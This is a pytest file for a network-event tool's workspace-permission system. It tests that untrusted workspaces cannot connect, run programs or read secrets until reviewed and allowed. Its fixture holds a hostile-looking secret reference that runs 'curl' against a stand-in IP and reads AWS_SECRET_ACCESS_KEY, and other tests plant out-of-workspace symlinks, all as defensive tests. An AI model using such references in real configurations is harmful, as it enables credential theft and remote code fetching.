"""A workspace from elsewhere connects to nothing and runs nothing until it is allowed, and again after a change."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from eventready.cli.context import App
from eventready.cli.declare.workspace import trust_content
from eventready.cli.main import cli
from eventready.core.errors import EventreadyError, RefusedError, WorkspaceError
from eventready.core.messages import in_english
from eventready.facts.platform import load_platform
from eventready.workspace.examples.new_workspace import write_workspace
from eventready.workspace.keys.secrets import resolve
from eventready.workspace.permission import allow, changes, is_allowed, require_allowed, reviewed
from eventready.workspace.workspace import load_workspace
from tests.workspace.test_new_workspace import BULL_RACE

HOSTS = """\
core-1:
  hostname: 192.0.2.1
  platform: frr
  groups: [router]
  username: env:AWS_SECRET_ACCESS_KEY
  password: exec:curl http://203.0.113.9/x
"""


PRINT = "1a2b:3c4d:5e6f:7a8b:9c0d:1e2f:3a4b:5c6d"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace that nobody has allowed."""
    monkeypatch.delenv("EVENTREADY_ALLOWED")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    write_workspace(tmp_path / "w", BULL_RACE)
    (tmp_path / "w" / "inventory" / "hosts.yaml").write_text(HOSTS)
    return tmp_path / "w"


def invoke(folder: Path, *words: str) -> Result:
    return CliRunner().invoke(cli, ["-w", str(folder), *words], standalone_mode=False, catch_exceptions=True)


@pytest.mark.attack(family="permission of a workspace")
@pytest.mark.parametrize(
    "words",
    [
        ("audit",), ("audit", "--save", "x"), ("trust", "keys"), ("doctor", "--connect"),
        ("plan", "backup", "--out", "x.plan"), ("apply", "x.plan"), ("rollback", "latest"), ("drill", "run", "x"),
        ("watch", "schedule", "--once"), ("report", "send", "--really", "x.eml"),
    ],
    ids=lambda words: words[0],
)  # fmt: skip
def test_every_command_that_connects_or_runs_is_refused(
    folder: Path, words: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    for name in ("x.plan", "x.eml"):
        Path(name).write_text("{}")
    drills = folder / "inventory" / "drills"
    drills.mkdir()
    monkeypatch.setattr("eventready.workspace.keys.secrets._run", pytest.fail)
    error = invoke(folder, *words).exception
    assert isinstance(error, EventreadyError), error
    if words[0] not in ("drill", "apply", "rollback"):  # these fail earlier, on their arguments
        assert isinstance(error, RefusedError)
        assert "is not allowed to connect and to run programs" in str(error)


def test_reading_commands_work_without_permission(folder: Path) -> None:
    for words in (("doctor", "matrix"), ("duties",), ("duties", "deadlines", "--all")):
        assert not isinstance(invoke(folder, *words).exception, EventreadyError)


@pytest.mark.attack(family="secrets at rest")
def test_a_record_has_hashes_and_texts_without_secrets(folder: Path, tmp_path: Path) -> None:
    play = folder / "playbooks" / "site.yml"
    play.parent.mkdir(exist_ok=True)
    play.write_text("- hosts: all\n  vars:\n    admin_password: hunter2-of-the-office\n    room: 1\n")
    allow(folder)
    (record,) = (tmp_path / "config").rglob("*.json")
    assert "room: 1" in (kept := record.read_text())
    assert "hunter2" not in kept
    assert is_allowed(folder)
    play.write_text(play.read_text().replace("room: 1", "room: 2"))
    (change,) = changes(folder)
    assert change.diff[-2:] == ("-    room: 1", "+    room: 2")
    play.write_text(play.read_text().replace("room: 2", "room: 1").replace("hunter2", "hunter3"))
    (change,) = changes(folder)
    assert "hunter" not in "".join(in_english(line) for line in change.diff)


def test_doctor_resolves_no_secret_without_permission(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("eventready.workspace.keys.secrets._run", pytest.fail)
    shown = invoke(folder, "doctor").stdout
    assert "MISSING  allowed: this workspace is not allowed" in shown
    assert "secret " not in shown


def test_the_review_names_programs_variables_and_hosts(folder: Path) -> None:
    shown = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder))
    assert "exec:curl http://203.0.113.9/x (inventory/hosts.yaml)" in shown.output
    assert "AWS_SECRET_ACCESS_KEY" in shown.output
    assert "192.0.2.1" in shown.output
    assert not is_allowed(folder)
    assert reviewed(folder).references.programs == (("exec:curl http://203.0.113.9/x", "inventory/hosts.yaml"),)
    assert "AWS_SECRET_ACCESS_KEY" in reviewed(folder).references.variables


def test_permission_is_bound_to_the_content(folder: Path) -> None:
    answer = CliRunner().invoke(trust_content, [], obj=App(workspace_path=folder))
    assert "Review with `eventready trust content --show`" in str(answer.exception)
    assert CliRunner().invoke(trust_content, ["--yes"], obj=App(workspace_path=folder)).exit_code == 0
    require_allowed(folder)
    (folder / "inventory" / "limits.yaml").write_text("defaults: {cpu: {warn: 50}}\n")
    require_allowed(folder)
    (folder / "inventory" / "hosts.yaml").write_text(HOSTS.replace("192.0.2.1", "203.0.113.66"))
    with pytest.raises(RefusedError, match=r"files changed since the workspace was allowed: inventory/hosts\.yaml"):
        require_allowed(folder)
    (change,) = changes(folder)
    assert change.diff[1:] == (" core-1:", "-  hostname: 192.0.2.1", "+  hostname: 203.0.113.66", "   platform: frr")
    shown = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder))
    assert "+  hostname: 203.0.113.66" in shown.output


@pytest.mark.parametrize(
    ("change", "shown"),
    [
        ({}, ["(only written otherwise: form, comments, order of keys; every value is the same)"]),
        ({"hostname": "203.0.113.66"}, ['- core-1.hostname: "192.0.2.1"', '+ core-1.hostname: "203.0.113.66"']),
        ({"port": "22"}, ["- core-1.port: 22", '+ core-1.port: "22"']),
        ({"groups": ["hn", "core", "first"]}, ['+ core-1.groups[2]: "first"']),
    ],
)
def test_of_a_file_saved_by_a_tool_the_changed_values_are_shown(
    folder: Path, change: dict[str, object], shown: list[str]
) -> None:
    device = {"hostname": "192.0.2.1", "port": 22, "platform": "frr", "groups": ["hn", "core"]}
    path = folder / "inventory" / "hosts.yaml"
    path.write_text(f"# Hà Nội\ncore-1: {json.dumps(device)}\nother: {{hostname: 192.0.2.2, data: {{a: 1, b: 2}}}}\n")
    allow(folder)
    others = {"data": {"b": 2, "a": 1}, "hostname": "192.0.2.2"}
    path.write_text(yaml.safe_dump({"other": others, "core-1": device | change}, indent=4))
    assert [list(map(in_english, one.diff)) for one in changes(folder)] == [shown]


@pytest.mark.parametrize(
    ("settings", "shown"),
    [
        ("", ["approvals: 0"]),
        ("changes: {batch: 1000}", ["approvals: 0", "batch: 1000"]),
        (
            "changes: {owns: ['acl *'], confirm_within_s: 3600}",
            ["approvals: 0", 'owns: ["acl *"]', "confirm_within_s: 3600"],
        ),
        (
            f'changes: {{approvals: 1, approvers: [{{name: "A\\u202e", signs_with: "{PRINT}"}}]}}',
            ["approvals: 1", f'"name": "A\\u202e", "signs_with": "{PRINT}"'],
        ),
    ],
)
def test_the_review_of_a_new_workspace_shows_how_changes_are_made(
    settings: str, shown: list[str], folder: Path
) -> None:
    path = folder / "inventory" / "event.yaml"
    path.write_text(f"{path.read_text(encoding='utf-8')}\n{settings}\n", encoding="utf-8")
    review = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder, chosen_lang="en")).output
    part = review.partition("Makes changes by (`changes` in event.yaml):\n")[2]
    assert not [line for line in shown if line not in part]
    document = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder, output="json")).stdout
    assert len(json.loads(document)["change_settings"]) == len(shown)


@pytest.mark.attack(family="permission of a workspace")
def test_the_review_shows_the_provider_that_decides_the_roles_of_the_pages(folder: Path) -> None:
    issuer = "https://login.example.net/realms/x"
    (folder / "inventory" / "serve.yaml").write_text(
        "names: [wall.example.net]\nproxies: [203.0.113.66]\n"
        f"oidc: {{issuer: '{issuer}', client: wall, secret: env:OIDC, operators: [everyone]}}\n"
    )
    review = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder, chosen_lang="en")).output
    part = review.partition("Opens its pages by (serve.yaml):\n")[2]
    assert all(word in part for word in ("wall.example.net", "203.0.113.66", issuer, '"operators": ["everyone"]'))
    document = json.loads(
        CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder, output="json")).stdout
    )
    assert document["page_settings"]["oidc"]["issuer"] == issuer
    assert document["connects"] == ["192.0.2.1"]


def test_no_changed_line_is_hidden_behind_others(folder: Path) -> None:
    path = folder / "inventory" / "hosts.yaml"
    names = [f"r{n}" for n in range(200)]
    plain = {"hostname": "192.0.2.1", "platform": "frr", "data": {"role": "router", "venues": ["hall"]}}
    path.write_text(yaml.safe_dump(dict.fromkeys(names, plain)))
    allow(folder)
    hosts = {name: {**plain, "port": 22} for name in names}
    path.write_text(yaml.safe_dump(hosts | {"r199": {**plain, "hostname": "203.0.113.66"}}))
    shown = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder))
    assert '+ r199.hostname: "203.0.113.66"' in shown.output
    shown = CliRunner().invoke(trust_content, ["--show"], obj=App(workspace_path=folder, output="json"))
    assert '+ r199.hostname: "203.0.113.66"' in json.loads(shown.stdout)["changes"][0]["diff"]


def test_a_text_too_long_to_be_compared_is_named(folder: Path) -> None:
    path = folder / "inventory" / "hosts.yaml"
    path.write_text(HOSTS + "# x\n" * 60_000)
    allow(folder)
    path.write_text(HOSTS.replace("frr", "linux") + "# x\n" * 60_000 + "r9: {hostname: 203.0.113.66}\n")
    (change,) = changes(folder)
    assert in_english(change.diff[-1]).startswith("(only the beginning of this text is kept")
    assert "+  platform: linux" in change.diff


def test_a_playbook_is_compared_as_text(folder: Path) -> None:
    """Ansible reads `yes` as a truth, and 'yes' as a text."""
    path = folder / "playbooks" / "a.yml"
    path.parent.mkdir(exist_ok=True)
    path.write_text("- hosts: all\n  become: yes\n")
    allow(folder)
    path.write_text("- hosts: all\n  become: 'yes'\n")
    assert [one.diff[1:] for one in changes(folder)] == [(" - hosts: all", "-  become: yes", "+  become: 'yes'")]


BOUND = (
    "playbooks/audit.yml",
    "templates/backup/frr.j2",
    "inventory/platforms/x/platform.yaml",
    "ssh_config",
    "known_hosts",
)


@pytest.mark.parametrize("name", BOUND)
def test_new_and_removed_files_need_a_review(folder: Path, name: str) -> None:
    path = folder / name
    existed = path.exists()
    allow(folder)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("x")
    assert [(change.path, change.kind) for change in changes(folder)] == [(name, "changed" if existed else "added")]
    allow(folder)
    path.unlink()
    assert [change.kind for change in changes(folder)] == ["removed"]


def test_a_moved_workspace_and_a_damaged_record_are_not_allowed(folder: Path, tmp_path: Path) -> None:
    allow(folder)
    folder.rename(tmp_path / "moved")
    assert not is_allowed(tmp_path / "moved")
    allow(tmp_path / "moved")
    for record in (tmp_path / "config" / "eventready" / "allowed").iterdir():
        assert record.stat().st_mode & 0o077 == 0
        record.write_text("[" * 100)
    assert not is_allowed(tmp_path / "moved")


def test_the_environment_allows_folders(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVENTREADY_ALLOWED", os.pathsep.join([str(tmp_path / "other"), str(folder.parent)]))
    assert is_allowed(folder)
    monkeypatch.setenv("EVENTREADY_ALLOWED", str(tmp_path / "w-other"))
    assert not is_allowed(folder)


def test_init_allows_what_it_has_written(folder: Path, tmp_path: Path) -> None:
    done = CliRunner().invoke(cli, ["init", str(tmp_path / "mine"), "--example"], standalone_mode=False)
    assert done.exception is None
    assert is_allowed(tmp_path / "mine")


def test_environment_variables_are_limited(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("EVENTREADY_ENV_NAMES")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
    monkeypatch.setenv("EVENTREADY_PASSWORD", "of-this-test")
    assert resolve("env:EVENTREADY_PASSWORD") == "of-this-test"
    with pytest.raises(WorkspaceError, match="may not read the environment variable AWS_SECRET_ACCESS_KEY") as raised:
        resolve("env:AWS_SECRET_ACCESS_KEY")
    assert "s3cret" not in str(raised.value)
    (tmp_path / "config" / "eventready").mkdir(parents=True)
    (tmp_path / "config" / "eventready" / "config.yaml").write_text("env_names: [AWS_*]\n")
    assert resolve("env:AWS_SECRET_ACCESS_KEY") == "s3cret"
    assert resolve("env:HOME", own=True) == os.environ["HOME"]


@pytest.mark.attack(family="permission of a workspace")
@pytest.mark.parametrize("name", ["inventory/platforms", "templates/x", ".eventready", ".eventready/lab/templates",
                                  "reports", "known_hosts"])  # fmt: skip
def test_links_that_lead_out_are_refused(folder: Path, tmp_path: Path, name: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    link = folder / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    with pytest.raises(RefusedError, match="a symbolic link leads out of the workspace"):
        load_workspace(folder)


def test_links_inside_are_followed(folder: Path) -> None:
    (folder / "templates" / "again").symlink_to(folder / "templates" / "backup")
    assert load_workspace(folder).devices


@pytest.mark.attack(family="permission of a workspace")
@pytest.mark.parametrize("option", ["session_log: /tmp/x", "ssh_config_file: x", "key_file: x", "sock: x", "host: x"])
def test_options_of_a_platform_are_known_ones(folder: Path, option: str) -> None:
    own = folder / "inventory" / "platforms" / "mine"
    own.mkdir(parents=True)
    (own / "platform.yaml").write_text(
        f"title: Mine\nroles: [router]\nextends: frr\nnetmiko: {{device_type: linux, options: {{{option}}}}}\n"
        "session: {prompt: '^x$'}\nread_only: ['show .*']\n"
    )
    (own / "facts.yaml").write_text("facts: {}\n")
    with pytest.raises(EventreadyError) as raised:
        load_platform("mine", (own.parent,))
    assert "is not allowed in a platform" in str(raised.value)
